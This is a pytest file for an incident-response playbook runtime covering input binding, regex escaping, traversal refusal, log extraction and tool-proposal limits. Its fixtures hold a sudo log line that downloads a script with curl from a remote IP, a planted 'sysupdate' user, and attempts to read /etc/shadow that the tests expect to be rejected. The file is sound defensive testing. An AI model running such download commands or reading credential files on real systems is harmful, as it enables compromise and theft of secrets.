"""The runtime API the graph uses: input binding, reference resolution, routing, extraction, allowance."""

from __future__ import annotations

import pytest
import re2

from playbooks.errors import (
    InputBindingError,
    PlaybookLoadError,
    ProposalRejectedError,
    UnresolvedReferenceError,
)
from playbooks.runtime import (
    allowed_actions,
    bind_inputs,
    check_proposal,
    condition_holds,
    extract_findings,
    fanout_items,
    find_playbook,
    findings_of,
    load_playbook,
    regex_literal,
    resolve_args,
)


@pytest.fixture(scope="module")
def brute(catalogue):
    return load_playbook(find_playbook("linux.ssh.bruteforce"), catalogue=catalogue)


def test_bind_inputs_types_defaults_and_errors(brute, catalogue):
    # The brute-force playbook has no inputs: its window is the case's (`--since/--until`), not a default.
    assert bind_inputs(brute, {}).values == {}
    with pytest.raises(InputBindingError) as unknown:
        bind_inputs(brute, {"since": "2h"})
    assert "unknown input 'since' (inputs of linux.ssh.bruteforce: none)" in str(unknown.value)
    web = load_playbook(find_playbook("web.webshell"), catalogue=catalogue)
    assert bind_inputs(web, {"changed_within": "2h"}).values["changed_within"] == "2h"
    with pytest.raises(InputBindingError) as info:
        bind_inputs(web, {"changed_within": "yesterday", "sinse": "1d"})
    assert "unknown input 'sinse'" in str(info.value) and "expected a duration" in str(info.value)


def test_bind_inputs_of_every_type(tmp_path):
    path = tmp_path / "t" / "typed.yaml"
    path.parent.mkdir()
    path.write_text("""id: t.typed
title: T
version: "1.0"
description: d
severity: low
inputs:
  n: {type: int, description: d}
  ip: {type: ip, description: d}
  h: {type: hash, description: d}
  p: {type: path, description: d, default: /var/log}
  l: {type: list, description: d, default: [a, b]}
  r: {type: regex, description: d, default: 'x+'}
  host: {type: host, description: d, default: web01}
  s: {type: string, description: d, default: hi}
steps:
  - {id: a, title: A, tool: list_users}
""")
    pb = load_playbook(path)
    bound = bind_inputs(pb, {"n": "42", "ip": "2001:DB8::1", "h": "A" * 32, "l": "x, y"})
    assert bound.values["n"] == 42 and bound.values["ip"] == "2001:db8::1"
    assert (
        bound.values["h"] == "a" * 32 and bound.values["l"] == ["x", "y"] and bound.values["p"] == "/var/log"
    )
    with pytest.raises(InputBindingError, match="'n' \\(int\\) is required"):
        bind_inputs(pb, {"ip": "192.0.2.1", "h": "0" * 64})
    with pytest.raises(InputBindingError, match="backreferences"):
        bind_inputs(pb, {"n": "1", "ip": "192.0.2.1", "h": "0" * 64, "r": "(a)\\1"})


def test_resolve_args_encodes_evidence(brute):
    inputs = bind_inputs(brute, {})
    attacker = brute.step("attacker_logins")
    args = resolve_args(attacker, inputs, {"sources": ["203.0.113.45", "198.51.100.23"]})
    assert args == {
        "log": "auth",
        "format": "auth",
        "pattern": r"Accepted \S+ for .* from (?:203\.0\.113\.45|198\.51\.100\.23) port",
    }
    after = brute.step("after_login")
    evil = "x|.*"  # attacker-chosen text must only ever match itself
    pattern = resolve_args(after, inputs, {}, item=evil)["pattern"]
    assert isinstance(pattern, str)
    assert re2.search(pattern, "sudo:   x|.* : TTY=pts/0") and not re2.search(pattern, "sudo:   root : TTY")
    with pytest.raises(UnresolvedReferenceError, match="empty"):
        resolve_args(attacker, inputs, {"sources": []})
    with pytest.raises(UnresolvedReferenceError, match="outside a fan-out"):
        resolve_args(after, inputs, {})


def test_regex_literal_round_trips():
    text = r"a.b*c+(d)[e]{f}|g^h$i\j?"
    assert re2.fullmatch(regex_literal(text), text)


def test_path_segment_refuses_traversal(tmp_path):
    path = tmp_path / "t" / "seg.yaml"
    path.parent.mkdir()
    path.write_text("""id: t.seg
title: T
version: "1.0"
description: d
severity: low
steps:
  - id: users
    title: U
    tool: list_users
    extract: {names: {column: user}}
  - id: keys
    title: K
    tool: read_file
    for_each: names
    args:
      path: {concat: ['/home/', {item: names, as: path_segment}, '/.ssh/authorized_keys']}
""")
    pb = load_playbook(path)
    step = pb.step("keys")
    inputs = bind_inputs(pb, {})
    assert resolve_args(step, inputs, {}, item="deploy") == {"path": "/home/deploy/.ssh/authorized_keys"}
    for bad in ("..", "a/b", ""):
        with pytest.raises(UnresolvedReferenceError):
            resolve_args(step, inputs, {}, item=bad)


def test_conditions_and_fanout(brute):
    attacker, after = brute.step("attacker_logins"), brute.step("after_login")
    assert not condition_holds(attacker, {}) and condition_holds(attacker, {"sources": ["1.2.3.4"]})
    assert condition_holds(brute.step("failed_logins"), {})
    assert fanout_items(attacker, {"sources": ["a"]}) is None
    users = [f"u{i}" for i in range(9)] + ["u0"]
    assert fanout_items(after, {"compromised_users": users}) == ["u0", "u1", "u2", "u3", "u4"]
    assert fanout_items(after, {}) == []


def test_count_and_any_in_conditions(tmp_path):
    path = tmp_path / "c.yaml"
    path.write_text("""id: t.c
title: T
version: "1.0"
description: d
severity: low
steps:
  - {id: a, title: A, tool: list_users, extract: {u: {column: user}}}
  - {id: b, title: B, tool: list_users, when: {count: u, over: 2}}
  - {id: c, title: C, tool: list_users, when: {any_in: u, values: [root, toor]}}
""")
    pb = load_playbook(path)
    assert not condition_holds(pb.step("b"), {"u": ["x", "x", "y"]})
    assert condition_holds(pb.step("b"), {"u": ["x", "y", "z"]})
    assert condition_holds(pb.step("c"), {"u": ["a", "toor"]}) and not condition_holds(
        pb.step("c"), {"u": ["a"]}
    )


def test_extract_from_debian_auth_lines(brute):
    lines = [
        "Nov 26 09:58:01 web01 sshd[2101]: Failed password for invalid user admin from 203.0.113.45 "
        "port 51022 ssh2",
        "Nov 26 09:59:12 web01 sshd[2110]: Accepted password for deploy from 198.51.100.23 port 40150 ssh2",
        "Nov 26 10:00:02 web01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; "
        "COMMAND=/usr/bin/curl -fsSL http://203.0.113.77/k.sh -o /tmp/k.sh",
        "2026-11-26T10:01:30.123456+00:00 web01 useradd[2201]: new user: name=sysupdate, UID=1002, GID=1002",
        "Nov 26 10:02:00 web01 sshd[2300]: session opened for user deploy(uid=1001) by (uid=0)",
    ]
    rows = [{"path": "/var/log/auth.log", "line_no": n, "line": line} for n, line in enumerate(lines, 1)]
    from playbooks.extractors import BuiltinExtractor
    from playbooks.model import Step

    step = Step(
        id="s",
        title="S",
        tool="search_logs",
        extract={k: BuiltinExtractor(builtin=k) for k in ("ipv4", "user", "url", "path", "pid", "domain")},
    )
    found = findings_of(extract_findings(step, rows))
    assert found["ipv4"] == ["203.0.113.45", "198.51.100.23", "203.0.113.77"]
    assert found["user"] == ["admin", "deploy", "sysupdate"]
    assert found["url"] == ["http://203.0.113.77/k.sh"]
    assert (
        "/usr/bin/curl" in found["path"]
        and "/tmp/k.sh" in found["path"]
        and "/var/log/auth.log" in found["path"]
    )
    assert found["pid"][:2] == ["2101", "2110"]
    assert "auth.log" not in " ".join(found.get("domain", []))
    # The playbook reads the auth format's fields, as search_logs gives them: only an allowed sudo runs.
    from datetime import UTC, datetime

    from tools.logformats import parse_line
    from tools.logsearch.fields import parsed_columns

    denied = (
        "Nov 26 10:00:09 web01 sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; "
        "USER=root ; COMMAND=/bin/sh"
    )
    parsed_rows = []
    for n, line in enumerate([*lines, denied], 1):
        parsed = parse_line("auth", line.encode(), reference=datetime(2026, 11, 27, tzinfo=UTC))
        row = {"path": "/var/log/auth.log", "line_no": n, "line": line}
        parsed_rows.append({**row, **(parsed_columns(parsed) if parsed else {})})
    values = extract_findings(brute.step("after_login"), parsed_rows)
    assert [(v.finding, v.value, v.row) for v in values if v.finding in ("sudo_commands", "denied_sudo")] == [
        ("sudo_commands", "/usr/bin/curl -fsSL http://203.0.113.77/k.sh -o /tmp/k.sh", 2),
        ("denied_sudo", "/bin/sh", 5),
    ]


def test_extract_hashes_ipv6_and_columns():
    from playbooks.extractors import BuiltinExtractor, ColumnExtractor, RegexExtractor
    from playbooks.model import Step

    step = Step(
        id="s",
        title="S",
        tool="hash_files",
        extract={
            "sha": BuiltinExtractor(builtin="sha256"),
            "md5": BuiltinExtractor(builtin="md5"),
            "v6": BuiltinExtractor(builtin="ipv6"),
            "size": ColumnExtractor(column="size"),
            "fam": RegexExtractor(regex="family=(?P<value>[A-Za-z]+)", column="note"),
        },
    )
    rows = [
        {
            "sha256": "AB" * 32,
            "md5": "cd" * 16,
            "size": 7,
            "note": "family=XMRig at 10:15:32 from 2001:db8::1",
        }
    ]
    found = findings_of(extract_findings(step, rows))
    assert found == {
        "sha": ["ab" * 32],
        "md5": ["cd" * 16],
        "v6": ["2001:db8::1"],
        "size": ["7"],
        "fam": ["XMRig"],
    }


def test_extraction_is_linear_on_hostile_text():
    from playbooks.extractors import RegexExtractor
    from playbooks.model import Step

    step = Step(
        id="s", title="S", tool="search_logs", extract={"v": RegexExtractor(regex="(?P<value>(a+)+)b")}
    )
    rows = [{"line": "a" * 60_000 + "c"}, {"line": "xaab"}]  # row 0 is catastrophic for backtracking engines
    assert [(v.value, v.row) for v in extract_findings(step, rows)] == [("aa", 1)]


def test_allowed_actions_and_proposals(brute, catalogue):
    step = brute.step("failed_logins")
    actions = allowed_actions(step)
    assert [(a.tool, a.source) for a in actions] == [("search_logs", "step")]
    validated = check_proposal(step, "search_logs", {"log": "auth", "pattern": "Accepted"}, catalogue)
    assert validated.pattern == "Accepted"  # type: ignore[attr-defined]
    with pytest.raises(ProposalRejectedError, match="does not allow tool 'read_file'"):
        check_proposal(step, "read_file", {"path": "/etc/shadow"}, catalogue)
    with pytest.raises(ProposalRejectedError, match="invalid args for search_logs"):
        check_proposal(step, "search_logs", {"log": "auth"}, catalogue)
    after = brute.step("after_login")
    assert [a.tool for a in allowed_actions(after)] == ["search_logs", "list_persistence", "list_users"]
    assert check_proposal(after, "list_users", {"only_flagged": True}, catalogue)


def test_followup_bounds(tmp_path, catalogue):
    path = tmp_path / "f.yaml"
    path.write_text("""id: t.f
title: T
version: "1.0"
description: d
severity: low
steps:
  - id: a
    title: A
    tool: list_users
    followups:
      - tool: read_file
        args:
          path: {prefix: /var/log/}
          lines: {max: 500}
      - tool: search_logs
        args:
          log: {one_of: [auth]}
          pattern: {pattern: '[A-Za-z ]+', max_length: 40}
""")
    step = load_playbook(path, catalogue=catalogue).step("a")
    assert check_proposal(step, "read_file", {"path": "/var/log/auth.log", "lines": 100}, catalogue)
    cases: list[tuple[dict[str, object], str]] = [
        ({"path": "/var/log/../../etc/hostname"}, "start with"),
        ({"path": "/var/log/../../etc/shadow"}, "holds secrets"),
        ({"path": "/etc/passwd"}, "start with"),
        ({"path": "/var/log/x", "lines": 501}, "<= 500"),
    ]
    for args, why in cases:
        with pytest.raises(ProposalRejectedError, match=why):
            check_proposal(step, "read_file", args, catalogue)
    with pytest.raises(ProposalRejectedError, match="one of"):
        check_proposal(step, "search_logs", {"log": "syslog", "pattern": "x"}, catalogue)
    with pytest.raises(ProposalRejectedError, match="must match"):
        check_proposal(step, "search_logs", {"log": "auth", "pattern": "a.*"}, catalogue)


def test_load_playbook_rejects_lint_errors(tmp_path, catalogue):
    path = tmp_path / "e.yaml"
    path.write_text(
        'id: t.e\ntitle: T\nversion: "1.0"\ndescription: d\nseverity: low\n'
        "steps:\n  - {id: a, title: A, tool: nope, when: {exists: ghost}}\n"
    )
    with pytest.raises(PlaybookLoadError) as structural:
        load_playbook(path)
    assert [i.code for i in structural.value.issues] == ["PB014"]
    with pytest.raises(PlaybookLoadError) as full:
        load_playbook(path, catalogue=catalogue)
    assert {i.code for i in full.value.issues} == {"PB011", "PB014"}
